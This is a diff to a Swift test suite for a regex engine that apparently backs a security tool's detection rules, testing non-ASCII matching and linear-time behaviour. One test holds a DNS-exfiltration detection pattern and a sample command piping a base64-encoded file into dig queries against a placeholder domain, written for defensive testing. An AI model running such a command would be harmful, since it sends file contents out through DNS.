@@ -73,7 +73,7 @@ import Testing
             for text in inputs {
                 let expected = reference.firstMatch(in: text, range: NSRange(location: 0, length: text.utf16.count)) != nil
                 let bytes = Array(text.utf8)
-                guard let got = fast.matches(bytes.span, scratch: &scratch) else { continue }
+                let got = fast.matches(bytes.span, scratch: &scratch)
                 checks += 1
                 #expect(got == expected, "\(pattern.debugDescription) on \(text.debugDescription): fast \(got), ICU \(expected)")
             }
@@ -92,11 +92,54 @@ import Testing
     }
 
     @Test func rejectsWhatItDoesNotSupport() {
-        for p in ["(?=a)b", "(?<!x)y", #"(a)\1"#, "a*+", #"\p{L}"#, #"[[:alpha:]]"#, "é", "(?x) a", "a(?i)b"] {
+        for p in ["(?=a)b", "(?<!x)y", #"(a)\1"#, "a*+", #"\p{L}"#, #"[[:alpha:]]"#, "[é]", "[a-é]", #"\é"#, "(?x) a", "a(?i)b"] {
             #expect(FastRegex(pattern: p, caseInsensitive: false, multiline: false, dotAll: false) == nil, "\(p)")
         }
         var scratch = FastRegex.Scratch()
         let rx = FastRegex(pattern: "a.c", caseInsensitive: false, multiline: false, dotAll: false)!
-        #expect(rx.matches(Array("aéc".utf8).span, scratch: &scratch) == nil)   // non-ASCII: ICU decides
+        #expect(rx.matches(Array("aéc".utf8).span, scratch: &scratch))   // `.` is the whole character
+        #expect(FastRegex(pattern: "(?i)é", caseInsensitive: false, multiline: false, dotAll: false) == nil)
+        #expect(FastRegex(pattern: "é", caseInsensitive: true, multiline: false, dotAll: false) == nil)
+    }
+
+    /// Issue 13 finding 4: one non-ASCII byte used to send the value to ICU, which spent 1.5 s
+    /// on this command line against the dns-exfiltration pattern. The value now stays on the
+    /// memoised matcher: the states explored are bounded by program × (text + 1).
+    @Test func nonASCIIInputStaysLinear() throws {
+        let pattern = #"(base64|xxd\s+-p|base32|od\s+-A).*\|.*(while|xargs|for\s).*\b(dig|nslookup|host|drill)\b"#
+        let rx = try #require(FastRegex(pattern: pattern, caseInsensitive: false, multiline: false, dotAll: false))
+        var scratch = FastRegex.Scratch()
+        let adversarial = "base64 é " + String(repeating: "| while ", count: 500) + "digx"
+        let bytes = Array(adversarial.utf8)
+        #expect(rx.matches(bytes.span, scratch: &scratch) == false)
+        #expect(scratch.steps > 0 && scratch.steps <= rx.programCount * (bytes.count + 1))
+        let hit = Array(("base64 é " + String(repeating: "| while ", count: 500) + "dig x").utf8)
+        #expect(rx.matches(hit.span, scratch: &scratch))
+        #expect(scratch.steps <= rx.programCount * (hit.count + 1))
+        // Through RegexMatcher (the rule path), which has no other engine.
+        let matcher = try RegexMatcher(pattern: pattern, caseInsensitive: false, multiline: false, dotAll: false)
+        #expect(matcher.matches(adversarial) == false)
+        #expect(matcher.matches("cat f | base64 é | while read l; do dig $l.x.example; done"))
+    }
+
+    @Test func nonASCIIInputSemantics() throws {
+        var scratch = FastRegex.Scratch()
+        func m(_ p: String, _ t: String) -> Bool {
+            FastRegex(pattern: p, caseInsensitive: false, multiline: false, dotAll: false)!.matches(Array(t.utf8).span, scratch: &scratch)
+        }
+        #expect(m("café", "/home/u/café/run"))            // UTF-8 literal
+        #expect(!m("café", "/home/u/cafe/run"))
+        #expect(m("^é+$", "ééé"))                          // quantifier repeats the whole character
+        #expect(!m("^é+$", "éè"))
+        #expect(m("^a.b$", "aéb") && m("^a.b$", "a😀b"))  // `.` consumes one character
+        #expect(!m("^a..b$", "aéb"))
+        #expect(m("^[^/]+$", "naïve") && !m("^[^/]+$", "na/ïve"))
+        #expect(m(#"^\S+$"#, "héllo") && !m(#"^\w+$"#, "héllo"))
+        #expect(m(#"x\Wy"#, "x—y"))
+        #expect(!m("[a-z]", "éü"))
+        // An event field can hold invalid UTF-8: a lone byte is one character.
+        let invalid: [UInt8] = [0x61, 0xFF, 0x62, 0x80]
+        let rx = FastRegex(pattern: "^a.b.$", caseInsensitive: false, multiline: false, dotAll: false)!
+        #expect(rx.matches(invalid.span, scratch: &scratch))
     }
 }
